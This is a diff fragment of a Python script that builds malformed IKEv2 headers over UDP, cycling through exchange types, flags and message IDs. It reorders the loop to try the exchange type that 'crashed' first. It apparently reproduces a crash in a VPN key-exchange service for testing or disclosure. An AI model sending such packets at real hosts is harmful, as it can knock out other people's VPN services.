@@ -11,7 +11,7 @@ dst, spi_i, spi_r = sys.argv[1], int(sys.argv[2], 16), int(sys.argv[3], 16)
 udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 sent = 0
 for r in (0, spi_r):
-    for exch in (34, 35, 36, 37):
+    for exch in (37, 36, 35, 34):	# INFORMATIONAL first: the one that crashed
         for flags in (0x20, 0x28, 0x00, 0x08):
             for msgid in (0, 1, 2, 5, 0xFFFFFFFF):
                 m = struct.pack(">QQBBBBII", spi_i, r, 46, 0x20, exch, flags, msgid, 32)
